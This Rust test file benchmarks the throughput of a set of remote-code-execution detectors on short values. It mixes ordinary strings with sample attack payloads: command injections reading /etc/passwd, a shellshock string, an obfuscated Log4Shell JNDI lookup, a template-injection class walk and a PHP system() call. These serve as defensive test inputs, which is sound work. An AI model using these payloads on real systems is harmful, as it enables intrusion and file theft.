//! Throughput of the detectors on short values (ignored by default; run
//! once in release: `cargo test --release -p rampart-detect-rce --test
//! speed -- --ignored --nocapture`).

use std::hint::black_box;
use std::time::Instant;

use rampart_detect_rce::common::Hits;
use rampart_detect_rce::{cmdi, code, jndi, shellshock, ssti};

const VALUES: [&[u8]; 16] = [
    b"cat food",
    b"John O'Brien",
    b"https://example.com/products?id=42&ref=home",
    b"Great product; works exactly as described and arrived two days early.",
    b"{\"name\":\"John\",\"age\":30,\"city\":\"New York\"}",
    b"1600 Pennsylvania Ave NW, Washington, DC 20500",
    b"price < 100 and color = 'red'",
    b"Hello {{name}}, thanks for your order!",
    b"; cat /etc/passwd",
    b"$(whoami)",
    b"127.0.0.1 && ls /etc",
    b"${${::-j}${::-n}${::-d}${::-i}:ldap://x/a}",
    b"{{''.__class__.__mro__[1].__subclasses__()}}",
    b"<?php system('id'); ?>",
    b"() { :; }; echo ; /bin/bash -c 'cat /etc/passwd'",
    b"java.lang.Runtime",
];

fn time(name: &str, f: impl Fn(&[u8])) {
    let rounds: u32 = std::env::var("RCE_ROUNDS")
        .ok()
        .and_then(|s| s.parse().ok())
        .unwrap_or(20_000);
    let t = Instant::now();
    for _ in 0..rounds {
        for v in VALUES {
            f(black_box(v));
        }
    }
    let ns = t.elapsed().as_nanos() as f64 / (f64::from(rounds) * VALUES.len() as f64);
    println!("{name:<15} {ns:8.0} ns/value");
}

#[test]
#[ignore]
fn short_values() {
    time("cmdi", |v| {
        let mut h = Hits::default();
        cmdi::scan_value(v, &mut h);
        black_box(h.best());
    });
    time("shellshock", |v| {
        let mut h = Hits::default();
        shellshock::scan_value(v, &mut h);
        black_box(h.best());
    });
    time("code-injection", |v| {
        let mut h = Hits::default();
        code::scan_value(v, &mut h);
        black_box(h.best());
    });
    time("ssti", |v| {
        let mut h = Hits::default();
        ssti::scan_value(v, &mut h);
        black_box(h.best());
    });
    time("jndi", |v| {
        let mut h = Hits::default();
        jndi::scan_value(v, &mut h);
        black_box(h.best());
    });
    time("all five", |v| {
        black_box(rampart_detect_rce::scan_all(v));
    });
    // One 64 KiB value of text.
    let big: Vec<u8> = b"The quick brown fox; jumps over the lazy dog | 42 & more. "
        .iter()
        .copied()
        .cycle()
        .take(64 * 1024)
        .collect();
    let t = Instant::now();
    for _ in 0..50 {
        black_box(rampart_detect_rce::scan_all(black_box(&big)));
    }
    let mbs = 50.0 * 64.0 / 1024.0 / t.elapsed().as_secs_f64();
    println!("all five on 64 KiB prose: {mbs:.1} MB/s");
}
